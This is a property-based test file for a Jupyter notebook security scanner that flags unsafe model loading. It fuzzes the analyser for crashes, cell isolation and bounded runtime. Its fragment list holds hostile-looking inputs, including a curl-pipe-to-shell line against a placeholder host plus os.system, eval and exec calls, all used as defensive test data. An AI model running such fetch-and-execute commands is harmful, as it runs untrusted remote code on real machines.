"""Laws for all cells: never a crash, spans inside the text, a broken cell blinds only itself, bounded time."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jupyter_mlsec.code.program import Program, analyse, check_code
from jupyter_mlsec.model.notebook import Cell, CellKind, Notebook, TargetKind
from jupyter_mlsec.model.text import CellRef, Place, Syntax, Text
from jupyter_mlsec.rules._discovery import discover

PIECES = (
    "import pickle\n",
    "from torch import *\n",
    "x = 1\n",
    "pickle.load(f)",
    "torch.load('m.pt', ",
    "weights_only=",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "'",
    '"',
    '"""',
    "'''",
    "\\",
    "\n",
    "\r\n",
    "\r",
    "    ",
    "\t",
    "!",
    "%",
    "%%",
    "%%bash\n",
    "%%time\n",
    "%%writefile a.py\n",
    "%run a.py\n",
    "!curl https://x.example | sh",
    "$(",
    "`",
    "<<EOF\n",
    "EOF\n",
    "|",
    "&&",
    ";",
    "#",
    "def f(x, *a, **k):\n",
    "class A(B):\n",
    "return ",
    "lambda x: ",
    "f(f)",
    "f = f",
    "x = !ls",
    "?",
    "eval(",
    "exec(x)",
    "for i in ",
    "if x:\n",
    "else:\n",
    "try:\n",
    "except E, e:\n",
    "print 'x'",
    "with a as b:\n",
    "async ",
    "await ",
    "yield ",
    "global x\n",
    "del x\n",
    "x.y",
    "x[0]",
    "getattr(x, 'y')",
    "partial(f, x)",
    "{x}",
    "f'{x!r:>{y}}'",
    "match x:\n",
    "case _:\n",
    "\0",
    "\ufeff",
    "\u202e",
    "é",
    "\N{MATHEMATICAL DOUBLE-STRUCK SMALL P}ickle",
    "\ud800",
    "\x0c",
    "0" * 50,
    "-c ",
    "python ",
    "os.system('",
    "globals()['x']",
)
cells = st.one_of(st.text(max_size=300), st.lists(st.sampled_from(PIECES), max_size=40).map("".join))


def notebook(*sources: str) -> Notebook:
    return Notebook(
        "x.ipynb",
        TargetKind.NOTEBOOK,
        tuple(
            Cell(CellRef(index, None), CellKind.CODE, Text(Place.SOURCE, source, Syntax.PYTHON, CellRef(index, None)))
            for index, source in enumerate(sources)
        ),
    )


def lines(program: Program) -> set[tuple[int, int, str]]:
    found = set()
    for rule, hit in check_code(program, discover()):
        assert hit.text.cell is not None
        assert 0 <= hit.span.start <= hit.span.end <= len(hit.text.content)
        found.add((hit.text.cell.index, hit.text.position(hit.span).line, rule.name))
    return found


@given(st.lists(cells, max_size=4))
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_no_text_makes_it_fail_and_every_span_is_in_its_cell(sources: list[str]) -> None:
    program = analyse(notebook(*sources))
    lines(program)
    for call in program.calls:
        assert call.span.end <= len(call.text.content)
    for command in program.commands:
        assert command.span.end <= len(command.text.content)


@given(cells)
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_cell_of_any_kind_does_not_blind_the_others(source: str) -> None:
    clean = "import joblib as loader_of_models\nmodel = loader_of_models.load('m.joblib')\n"
    assert (1, 2, "unsafe-joblib-load") in lines(analyse(notebook(source, clean)))


@given(cells)
@settings(max_examples=100, deadline=None)
def test_the_same_notebook_gives_the_same_answer(source: str) -> None:
    assert lines(analyse(notebook(source))) == lines(analyse(notebook(source)))


LARGE = 1_000_000
DEEP = {
    "brackets": "x = " + "(" * 5_000 + ")" * 5_000,
    "lists": "x = " + "[" * 150 + "]" * 150,
    "sum": "x = " + " + ".join(["'a'"] * 20_000),
    "attributes": "x" + ".y" * 5_000,
    "calls": "x" + ".y()" * 1_000,
    "subscripts": "x" + "[0]" * 5_000,
    "unary": "x = " + "-" * 5_000 + "1",
    "not": "x = " + "not " * 2_000 + "1",
    "blocks": "".join("    " * depth + "if x:\n" for depth in range(95)) + "    " * 95 + "pass\n",
    "elif": "if x: pass\n" + "elif x: pass\n" * 2_000,
    "functions": "".join("    " * depth + f"def f{depth}(x):\n" for depth in range(90))
    + "    " * 90
    + "return f0(x)\n",
    "recursion": "def f(x):\n    return f(f(f(x)))\nf(f(f(1)))\n",
    "fan out": "".join(f"def f{n}(x):\n    return f{n + 1}(x) + f{n + 1}(x) + f{n + 1}(x)\n" for n in range(30))
    + "f0(1)\n",
    "lambdas": "x = " + "lambda: " * 500 + "1",
    "substitutions": "!echo " + "$(" * 3_000,
    "backticks": "!echo " + "`" * 5_000,
    "heredocs": "%%bash\n" + "cat <<A\n" * 2_000,
    "writes itself": "%%writefile a.py\n%run a.py\nimport a\nfrom a import *\n",
    "python in python": "!python -c '" + 'exec("' * 50 + "'",
    "eval in eval": "x = '1'\n" + "x = eval('eval(x)')\n" * 50,
    "unions": "".join(f"if x:\n    y = f{n}\n" for n in range(500)) + "y(y, y)\n",
    "flat list": "x = [" + "1, " * (LARGE // 3) + "]",
    "one string": "x = '" + "a" * LARGE + "'",
    "many lines": "x = 1\n" * (LARGE // 6),
    "many magics": "%time x\n" * (LARGE // 80),
    "many shell lines": "!ls -l\n" * (LARGE // 70),
    "broken lines": "x = = 1\n" * (LARGE // 80),
    "one broken block": "def f():\n" + "    x = = 1\n" * (LARGE // 100),
    "open bracket": "x = (\n" + "y = 1\n" * (LARGE // 60),
    "open string": "x = '''\n" + "y = 1\n" * (LARGE // 60),
    "question marks": "?\n" * (LARGE // 20),
    "long shell line": "!echo " + "a " * (LARGE // 20),
}


@pytest.mark.parametrize("name", DEEP)
def test_deep_and_large_cells_take_bounded_time(name: str) -> None:
    clean = "import joblib as loader_of_models\nmodel = loader_of_models.load('m.joblib')\n"
    start = time.process_time()
    found = lines(analyse(notebook(DEEP[name], clean)))
    assert (1, 2, "unsafe-joblib-load") in found
    assert time.process_time() - start < 12
